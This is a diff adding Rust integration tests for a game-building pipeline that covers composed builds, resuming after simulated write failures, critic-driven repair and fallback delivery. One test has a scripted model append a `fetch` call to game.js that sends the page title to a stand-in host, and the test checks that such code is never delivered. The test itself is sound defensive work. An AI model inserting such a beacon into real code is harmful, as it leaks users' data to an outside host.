@@ -1,0 +1,241 @@
+//! Whole runs through the public API, on scripted and on real parts.
+
+use std::sync::Arc;
+
+use builder_core::{
+    codes::Fault,
+    drive::{self, DriveError, DriveSettings, Ports, RunEnd},
+    drivers::{authors::PreparedAuthor, stores::MemoryStore},
+    game::{BuildRequest, CodeAuthor, EngineChoice, GameFolder},
+    ports::{ArtifactStore, CheckpointStore, DerivedIds, LanguageModel, ModelReply, RunIds},
+    protocol::{Checkpoint, DeliveryMode, Event, Limits, Phase, RunId, Usage},
+    testing::{EventLog, FailingStore, ManualClock, ScriptedModel},
+};
+
+const IDEA: &str = "an owl catches mice at night";
+
+fn request(author: CodeAuthor) -> BuildRequest {
+    BuildRequest { engine: EngineChoice::None, code_author: author, ..BuildRequest::new(IDEA) }
+}
+
+/// Drives one run to its end over `store`, in a world where every reading of the clock is a millisecond.
+async fn run<S: CheckpointStore + ArtifactStore>(
+    store: &S,
+    author: CodeAuthor,
+    model: Option<&dyn LanguageModel>,
+    events: &EventLog,
+    resume: bool,
+) -> Result<RunEnd, DriveError> {
+    let ports = Ports {
+        author: &PreparedAuthor::default(),
+        model,
+        tester: None,
+        checkpoints: store,
+        artifacts: store,
+        clock: &ManualClock::new(1_764_547_200_000, 1),
+        events,
+    };
+    let settings = DriveSettings::default();
+    let request = request(author);
+    let id = DerivedIds.candidate(&request, 1);
+    if resume {
+        drive::resume(ports, &settings, &id).await
+    } else {
+        drive::build(ports, &settings, &id, request, Limits::default()).await
+    }
+}
+
+fn id(author: CodeAuthor) -> RunId {
+    DerivedIds.candidate(&request(author), 1)
+}
+
+fn delivered(end: RunEnd) -> (Option<DeliveryMode>, u8) {
+    match end {
+        RunEnd::Delivered { delivery, exit, .. } => (delivery.mode, exit),
+        RunEnd::Paused { before } => panic!("paused before {before}"),
+    }
+}
+
+#[tokio::test]
+async fn a_run_without_a_model_delivers_a_composed_game() {
+    let (store, events) = (MemoryStore::new(), EventLog::default());
+    let end = run(&store, CodeAuthor::Composer, None, &events, false).await.unwrap();
+    assert_eq!(delivered(end), (Some(DeliveryMode::Composed), 0));
+    let run = id(CodeAuthor::Composer);
+    let game = store.folder(&run, "game").unwrap();
+    assert_eq!(game.files.keys().collect::<Vec<_>>(), ["game.js", "index.html", "play.html", "style.css"]);
+    let history = store.history(&run).await.unwrap().records;
+    let kinds: Vec<&str> = history.iter().map(|record| record.checkpoint.name()).collect();
+    assert_eq!(kinds.first(), Some(&"started"));
+    assert_eq!(kinds[kinds.len() - 5..], ["planned", "built", "critiqued", "validated", "ended"]);
+    let events = events.events();
+    assert!(matches!(events.last().unwrap().event, Event::RunCompleted { .. }));
+    assert!(events.iter().enumerate().all(|(seq, event)| event.seq == seq as u64));
+}
+
+/// The disk fills up, or the process is killed, at every single write; what is left is resumed and comes to the
+/// same game.
+#[tokio::test]
+async fn a_run_that_breaks_off_at_any_write_is_resumed_to_the_same_game() {
+    let (whole, events) = (MemoryStore::new(), EventLog::default());
+    run(&whole, CodeAuthor::Composer, None, &events, false).await.unwrap();
+    let run_id = id(CodeAuthor::Composer);
+    let wanted = whole.folder(&run_id, "game").unwrap();
+    let kinds = |records: Vec<builder_core::protocol::CheckpointRecord>| -> Vec<Checkpoint> {
+        records.into_iter().map(|record| untimed(record.checkpoint)).collect()
+    };
+    let facts = kinds(whole.history(&run_id).await.unwrap().records);
+
+    let mut broken = 0;
+    for writes in 1.. {
+        let store = Arc::new(MemoryStore::new());
+        let failing = FailingStore::after(Shared(store.clone()), writes);
+        match run(&failing, CodeAuthor::Composer, None, &EventLog::default(), false).await {
+            Ok(_) => break,
+            Err(error) => assert_eq!(error.code(), "output-unwritable"),
+        }
+        broken += 1;
+        let end = run(&Shared(store.clone()), CodeAuthor::Composer, None, &EventLog::default(), true).await.unwrap();
+        assert_eq!(delivered(end), (Some(DeliveryMode::Composed), 0), "broken at write {writes}");
+        assert_eq!(store.folder(&run_id, "game").unwrap(), wanted, "broken at write {writes}");
+        assert_eq!(kinds(store.history(&run_id).await.unwrap().records), facts, "broken at write {writes}");
+        for name in ["plan.json", "clarification.json", "critique.json", "validation_report.json", "run_manifest.json"]
+        {
+            assert!(store.document(&run_id, name).await.unwrap().is_some(), "{name}, broken at write {writes}");
+        }
+    }
+    assert!(broken > 20, "{broken}");
+}
+
+/// A checkpoint without the times in it.
+fn untimed(mut checkpoint: Checkpoint) -> Checkpoint {
+    if let Checkpoint::Validated { report } = &mut checkpoint {
+        report.timestamp.clear();
+        report.wall_ms = 0;
+    }
+    checkpoint
+}
+
+/// A store in two hands: one fails, one looks at what it left.
+struct Shared(Arc<MemoryStore>);
+
+#[async_trait::async_trait]
+impl CheckpointStore for Shared {
+    async fn append(&self, run: &RunId, record: &builder_core::protocol::CheckpointRecord) -> Result<(), Fault> {
+        self.0.append(run, record).await
+    }
+    async fn history(&self, run: &RunId) -> Result<builder_core::ports::History, Fault> {
+        self.0.history(run).await
+    }
+    async fn runs(&self) -> Result<Vec<RunId>, Fault> {
+        CheckpointStore::runs(&*self.0).await
+    }
+}
+
+#[async_trait::async_trait]
+impl ArtifactStore for Shared {
+    async fn put_build(&self, run: &RunId, build: u32, game: &GameFolder) -> Result<(), Fault> {
+        self.0.put_build(run, build, game).await
+    }
+    async fn build(&self, run: &RunId, build: u32) -> Result<GameFolder, Fault> {
+        self.0.build(run, build).await
+    }
+    async fn swap_folder(&self, run: &RunId, name: &str, folder: &GameFolder) -> Result<(), Fault> {
+        self.0.swap_folder(run, name, folder).await
+    }
+    async fn put_document(&self, run: &RunId, name: &str, bytes: &[u8]) -> Result<(), Fault> {
+        self.0.put_document(run, name, bytes).await
+    }
+    async fn document(&self, run: &RunId, name: &str) -> Result<Option<Vec<u8>>, Fault> {
+        self.0.document(run, name).await
+    }
+    async fn append_event(&self, run: &RunId, line: &str) -> Result<(), Fault> {
+        self.0.append_event(run, line).await
+    }
+}
+
+async fn composed_game() -> GameFolder {
+    let store = MemoryStore::new();
+    run(&store, CodeAuthor::Composer, None, &EventLog::default(), false).await.unwrap();
+    store.build(&id(CodeAuthor::Composer), 1).await.unwrap()
+}
+
+fn reply(game: &GameFolder, script: impl Fn(&str) -> String) -> Result<ModelReply, Fault> {
+    let mut text = String::from("Here is your game.\n");
+    for name in ["index.html", "style.css", "game.js"] {
+        let file = game.text(name).unwrap();
+        let file = if name == "game.js" { script(file) } else { file.to_owned() };
+        text.push_str(&format!("=== FILE: {name} ===\n{file}\n=== END: {name} ===\n"));
+    }
+    Ok(ModelReply { text, usage: Some(Usage { tokens_in: 1_000, tokens_out: 4_000 }) })
+}
+
+#[tokio::test]
+async fn a_models_game_is_repaired_by_what_the_critic_found() {
+    let game = composed_game().await;
+    let model =
+        ScriptedModel::new([reply(&game, |code| format!("{code}\nlet broken = ;\n")), reply(&game, str::to_owned)]);
+    let author = CodeAuthor::Model("scripted".into());
+    let (store, events) = (MemoryStore::new(), EventLog::default());
+    let end = run(&store, author.clone(), Some(&model), &events, false).await.unwrap();
+    assert_eq!(delivered(end), (Some(DeliveryMode::Generated), 0));
+    let calls = model.calls();
+    assert_eq!(calls.len(), 2);
+    assert!(calls[1].user.contains("syntax-error"), "{}", calls[1].user);
+    assert!(calls[1].user.contains("let broken"), "the repair sees the files as they are");
+    let manifest: serde_json::Value =
+        serde_json::from_slice(&store.document(&id(author), "run_manifest.json").await.unwrap().unwrap()).unwrap();
+    assert_eq!((manifest["tokens"].as_u64(), manifest["build"].as_u64()), (Some(10_000), Some(2)));
+    assert!(manifest["prompt_hashes"]["builder_system.md"].as_str().unwrap().len() == 12);
+}
+
+#[tokio::test]
+async fn an_unsafe_game_of_a_model_is_never_delivered() {
+    let game = composed_game().await;
+    let evil = || reply(&game, |code| format!("{code}\nfetch('https://example.invalid/?' + document.title);\n"));
+    let model = ScriptedModel::new([evil(), evil(), evil(), evil(), evil(), evil()]);
+    let author = CodeAuthor::Model("scripted".into());
+    let (store, events) = (MemoryStore::new(), EventLog::default());
+    let end = run(&store, author.clone(), Some(&model), &events, false).await.unwrap();
+    assert_eq!(delivered(end), (Some(DeliveryMode::DegradedFallback), 0));
+    assert!(!store.folder(&id(author.clone()), "game").unwrap().text("game.js").unwrap().contains("example.invalid"));
+    let played: Vec<u32> = store
+        .history(&id(author))
+        .await
+        .unwrap()
+        .records
+        .into_iter()
+        .filter_map(|record| match record.checkpoint {
+            Checkpoint::Validated { report } => Some(report.build),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(played.len(), 1, "only the template's game was played");
+}
+
+#[tokio::test]
+async fn replies_without_a_game_and_a_model_that_is_not_there_end_as_they_should() {
+    let chatter = || Ok(ModelReply { text: "I would rather talk about it.".into(), usage: None });
+    let model = ScriptedModel::new([chatter(), chatter(), chatter(), chatter()]);
+    let author = CodeAuthor::Model("scripted".into());
+    let (store, events) = (MemoryStore::new(), EventLog::default());
+    let end = run(&store, author.clone(), Some(&model), &events, false).await.unwrap();
+    assert_eq!(delivered(end), (Some(DeliveryMode::DegradedFallback), 0));
+    assert_eq!(model.calls().len(), 3);
+
+    let end = run(&MemoryStore::new(), author, None, &EventLog::default(), false).await.unwrap();
+    assert_eq!(delivered(end), (None, 4));
+}
+
+#[tokio::test]
+async fn resuming_a_run_that_is_over_delivers_it_again_and_an_unknown_one_is_told() {
+    let store = MemoryStore::new();
+    run(&store, CodeAuthor::Composer, None, &EventLog::default(), false).await.unwrap();
+    let before = store.history(&id(CodeAuthor::Composer)).await.unwrap().records.len();
+    let end = run(&store, CodeAuthor::Composer, None, &EventLog::default(), true).await.unwrap();
+    assert_eq!(delivered(end), (Some(DeliveryMode::Composed), 0));
+    assert_eq!(store.history(&id(CodeAuthor::Composer)).await.unwrap().records.len(), before);
+    let error = run(&MemoryStore::new(), CodeAuthor::Composer, None, &EventLog::default(), true).await.unwrap_err();
+    assert_eq!(error.code(), "run-unknown");
+    assert_eq!(Phase::from_name("done"), Some(Phase::Done));
+}
